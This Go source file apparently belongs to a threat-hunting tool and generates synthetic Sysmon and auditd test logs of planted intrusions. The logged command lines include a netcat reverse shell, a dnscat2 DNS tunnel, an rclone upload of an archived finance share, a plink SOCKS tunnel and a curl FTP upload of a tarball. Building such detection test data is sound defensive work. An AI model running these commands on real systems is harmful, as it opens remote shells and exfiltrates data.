package synth

import (
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"time"

	"github.com/sluice-hunt/sluice/source/winevent"
)

// HostSampleFile and HostAuditFile are the files WriteHostSample writes.
const (
	HostSampleFile = "sysmon.xml"
	HostAuditFile  = "audit.log"
)

// WriteHostSample writes the host logs of the sample day (testdata/host): Sysmon events as
// Splunk's XmlWinEventLog (one XML event a line) for the workstations behind some of the
// sample day's planted network cases, so that hunting both folders names the processes, and
// host-only cases (an archive then a transfer, an SSH tunnel); and an auditd log of a Linux
// server staging a tarball and uploading it. day is the sample day (its midnight, UTC).
//
//   - WS-011 (10.50.0.11): cdnupd.exe, started by WINWORD.EXE from a macro document, makes the
//     HTTPS beacon to 203.0.113.80:443;
//   - WS-012 (10.50.0.12): dnscat2.exe makes the DNS tunnel under t.exfil-dns.example (Sysmon 22);
//   - WS-013 (10.50.0.13): 7z.exe archives a finance share into the user's Temp at 02:02, and
//     rclone.exe copies that archive to the cloud at 02:09:50: the 2.5 GB upload to
//     198.51.100.23:443 (a chain, and the upload names its process);
//   - WS-014 (10.50.0.14): nc64.exe holds the 9-hour session to 203.0.113.44:4444;
//   - WS-016 (10.50.0.16): plink.exe -P 443 -D 1080: the SSH sessions on port 443;
//   - build-07 (auditd): tar -czf of /srv/reports, then curl --upload-file to an FTP server.
func WriteHostSample(dir string, day time.Time) error {
	recordIDs = map[string]int64{}
	at := func(h, m, s int) time.Time {
		return day.Add(time.Duration(h)*time.Hour + time.Duration(m)*time.Minute + time.Duration(s)*time.Second)
	}
	var recs []winevent.Record
	n := 0
	proc := func(host, user, image, cmd string, parent SysmonProc) SysmonProc {
		n++
		return SysmonProc{Computer: host, GUID: fmt.Sprintf("3F2A11C0-5E00-0000-%04d-%012d", n, 0x10000+n), PID: 3000 + 17*n, Image: image,
			CommandLine: cmd, User: user, ParentGUID: parent.GUID, ParentPID: parent.PID, ParentImage: parent.Image, ParentCommandLine: parent.CommandLine}
	}
	explorer := func(host, user string) SysmonProc {
		return proc(host, user, `C:\Windows\explorer.exe`, `C:\Windows\Explorer.EXE`, SysmonProc{})
	}
	port := 0
	connect := func(p SysmonProc, t time.Time, src, dst string, dport int) {
		port++
		recs = append(recs, SysmonConnect(p, t, "tcp", src, 49800+port%9000, dst, dport))
	}

	// WS-011: the HTTPS beacon's process
	ex := explorer("WS-011", `CORP\mgarcia`)
	word := proc("WS-011", `CORP\mgarcia`, `C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE`,
		`"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE" /n "C:\Users\mgarcia\Downloads\Q1-invoice.docm"`, ex)
	upd := proc("WS-011", `CORP\mgarcia`, `C:\Users\mgarcia\AppData\Roaming\Microsoft\cdnupd.exe`,
		`"C:\Users\mgarcia\AppData\Roaming\Microsoft\cdnupd.exe" -k netsvc`, word)
	recs = append(recs, SysmonProcess(ex, at(7, 58, 2)), SysmonProcess(word, at(7, 59, 10)), SysmonProcess(upd, at(7, 59, 48)))
	for h := 8; h < 18; h++ {
		connect(upd, at(h, 0, 1), "10.50.0.11", "203.0.113.80", 443)
	}

	// WS-012: the DNS tunnel's process
	ex = explorer("WS-012", `CORP\tnguyen`)
	cmd := proc("WS-012", `CORP\tnguyen`, `C:\Windows\System32\cmd.exe`, `"C:\Windows\system32\cmd.exe"`, ex)
	dc := proc("WS-012", `CORP\tnguyen`, `C:\Users\tnguyen\AppData\Local\Temp\dnscat2.exe`,
		`dnscat2.exe --dns server=10.1.0.53,domain=t.exfil-dns.example --secret=4f2d`, cmd)
	recs = append(recs, SysmonProcess(ex, at(12, 50, 0)), SysmonProcess(cmd, at(12, 58, 0)), SysmonProcess(dc, at(13, 1, 55)))
	connect(dc, at(13, 2, 0), "10.50.0.12", "10.1.0.53", 53)
	for i := range 40 {
		recs = append(recs, SysmonDNS(dc, at(13, 2+i, 1), fmt.Sprintf("%x.t.exfil-dns.example", 0x5f3a00+i*7919), "-"))
	}

	// WS-013: archive, then rclone: the 2.5 GB upload
	ex = explorer("WS-013", `CORP\jlee`)
	ps := proc("WS-013", `CORP\jlee`, `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`, `"powershell.exe"`, ex)
	sz := proc("WS-013", `CORP\jlee`, `C:\Program Files\7-Zip\7z.exe`,
		`"C:\Program Files\7-Zip\7z.exe" a -mx9 -pWinter2024 C:\Users\jlee\AppData\Local\Temp\q1.7z \\fs01\finance\Q1\*`, ps)
	rc := proc("WS-013", `CORP\jlee`, `C:\Users\jlee\AppData\Local\Temp\rclone.exe`,
		`rclone.exe copy C:\Users\jlee\AppData\Local\Temp\q1.7z dropvault:inbox --transfers 8 -q`, ps)
	recs = append(recs, SysmonProcess(ex, at(1, 40, 0)), SysmonProcess(ps, at(1, 58, 30)), SysmonProcess(sz, at(2, 2, 0)), SysmonProcess(rc, at(2, 9, 50)))
	for m := 0; m < 180; m += 20 {
		connect(rc, at(2, 10+m, 1), "10.50.0.13", "198.51.100.23", 443)
	}

	// WS-014: the 9-hour session
	ex = explorer("WS-014", `CORP\akim`)
	nc := proc("WS-014", `NT AUTHORITY\SYSTEM`, `C:\ProgramData\svc\nc64.exe`, `C:\ProgramData\svc\nc64.exe -e cmd.exe 203.0.113.44 4444`,
		SysmonProc{GUID: "3F2A11C0-5E00-0000-0000-0000000000AA", PID: 712, Image: `C:\Windows\System32\services.exe`, CommandLine: `C:\Windows\system32\services.exe`})
	recs = append(recs, SysmonProcess(ex, at(6, 10, 0)), SysmonProcess(nc, at(6, 30, 40)))
	connect(nc, at(6, 30, 41), "10.50.0.14", "203.0.113.44", 4444)

	// WS-016: SSH on 443
	ex = explorer("WS-016", `CORP\rpatel`)
	pl := proc("WS-016", `CORP\rpatel`, `C:\Users\rpatel\Downloads\plink.exe`, `plink.exe -P 443 -N -D 1080 relay@203.0.113.17`, ex)
	recs = append(recs, SysmonProcess(ex, at(10, 0, 0)), SysmonProcess(pl, at(10, 15, 33)))
	for _, t := range []time.Time{at(10, 15, 34), at(12, 2, 10), at(14, 30, 5), at(16, 40, 0)} {
		connect(pl, t, "10.50.0.16", "203.0.113.17", 443)
	}

	var b strings.Builder
	for _, r := range recs {
		b.WriteString(WinXML(r))
		b.WriteByte('\n')
	}
	if err := os.WriteFile(filepath.Join(dir, HostSampleFile), []byte(b.String()), 0o644); err != nil {
		return err
	}
	audit := AuditExec("build-07", at(3, 14, 2), 88120, 21544, 21500, 1001, "/usr/bin/tar", "/home/ci",
		[]string{"tar", "-czf", "/tmp/.cache/r.tgz", "/srv/reports"}) +
		AuditExec("build-07", at(3, 16, 40), 88174, 21560, 21500, 1001, "/usr/bin/curl", "/home/ci",
			[]string{"curl", "-s", "--upload-file", "/tmp/.cache/r.tgz", "ftp://198.51.100.90/incoming/"})
	return os.WriteFile(filepath.Join(dir, HostAuditFile), []byte(audit), 0o644)
}
